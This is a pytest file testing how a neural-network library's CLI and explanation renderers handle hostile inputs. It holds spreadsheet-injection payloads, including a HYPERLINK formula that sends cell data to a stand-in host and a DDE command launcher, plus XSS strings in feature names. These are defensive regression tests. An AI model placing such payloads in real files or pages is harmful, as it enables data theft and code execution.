"""Hostile and careless inputs, third round (issue 28): injection, hangs, bombs and wrong reasons.

Each test reproduces one case of the issue and failed on the code before its fix. Memory bombs run in
a subprocess under an address-space limit, their peak RSS bounded (test_hostile.peak_of).
"""

import csv
import re

import numpy as np

import deltaprop as dp
import deltaprop.data
from deltaprop.explain import render_html, render_markdown, render_text
from deltaprop.explain.tex import parse
from test_cli import deltaprop

HOSTILE_NAMES = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "price_$", "tax_$", "lo$^$",
                 "[x](javascript:alert(1))", "a\\b", "line\nbreak"]


def _classifier(labels: list, features: int = 3) -> dp.Network:
    rng = np.random.default_rng(0)
    net = dp.Network([dp.Dense(features, 4, "tanh"), dp.Dense(4, len(labels), "softmax")], loss="cross_entropy",
                     seed=0)
    net.fit(rng.normal(size=(4 * len(labels), features)), np.array(labels * 4), epochs=1, verbose=0)
    return net


# --- 1: spreadsheet formula injection ------------------------------------------------
def test_predict_csv_prefixes_formula_cells_with_a_quote(tmp_path):
    """Labels that a spreadsheet runs as formulas come out of predict -o quoted ('=...), numbers untouched."""
    labels = ['=HYPERLINK("http://x.example/?l="&A1,"c")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "plain"]
    rng = np.random.default_rng(0)
    with (tmp_path / "t.csv").open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["x1", "x2", "label"])
        for k in range(80):
            writer.writerow([k % 4, round(rng.normal(), 3), labels[k % 4]])
    deltaprop("train", "--data", tmp_path / "t.csv", "--target", "label", "--epochs", 30, "--layers", 8,
              "--out", tmp_path / "m", "--quiet", "--no-plots")
    deltaprop("predict", tmp_path / "m" / "model.safetensors", "--data", tmp_path / "t.csv", "--proba",
              "-o", tmp_path / "out.csv")
    rows = list(csv.reader((tmp_path / "out.csv").read_text().splitlines()))
    assert not any(cell.startswith(("=", "@", "+", "\t", "\r")) for row in rows for cell in row)
    predicted = {row[0] for row in rows[1:]}
    assert predicted <= {"'" + label for label in labels[:3]} | {"plain"} and len(predicted) >= 3
    assert f"p_{labels[1]}" in rows[0]  # a header cell starting with p_ is no formula
    assert all(float(p) >= 0 for row in rows[1:] for p in row[1:])  # probabilities stay numbers


def test_spreadsheet_safe_leaves_numbers_and_quotes_formulas():
    from deltaprop.cli.evaluate import spreadsheet_safe

    assert spreadsheet_safe(-1.5) == -1.5 and spreadsheet_safe("-1.5") == "-1.5" and spreadsheet_safe("a") == "a"
    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("-2+3") == "'-2+3"
    assert spreadsheet_safe("@x") == "'@x" and spreadsheet_safe("\tx") == "'\tx"


# --- 2 and 19: names in explain -------------------------------------------------------
def test_markdown_explain_escapes_html_in_names_and_labels():
    names = HOSTILE_NAMES[:3]
    net = _classifier(["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'])
    md = render_markdown(dp.explain(net, np.ones(3), '"><img src=x onerror=alert(1)>', feature_names=names))
    assert "<script>" not in md and "<img" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "&lt;img src=x onerror=alert(1)&gt;" in md


def test_dollars_in_names_do_not_pair_into_math_in_any_format():
    """price_$ and tax_$ gave IndexError (text); a label lo$^$ did the same in HTML."""
    net = _classifier(["lo$^$", "hi"], features=4)
    ex = dp.explain(net, np.ones(4), "lo$^$", feature_names=["price_$", "tax_$", "a\\b", "[x](javascript:y)"])
    text = render_text(ex)
    assert "price_$ = 1, tax_$ = 1, a\\b = 1" in text and "class 'lo$^$'" in text
    page = render_html(ex)
    assert "price_$ = 1, tax_$ = 1" in page and "class &#x27;lo$^$&#x27;" in page
    md = render_markdown(ex)
    assert "price\\_\\$ = 1, tax\\_\\$ = 1, a\\\\b = 1, \\[x\\](javascript:y) = 1" in md
    prose = [line for line in md.split("$$")[::2]]  # outside the display equations
    for tex in re.findall(r"\$([^$]+)\$", "".join(prose).replace("\\$", "")):
        parse(tex)  # each inline pair is the document's math, none spans a name's dollar
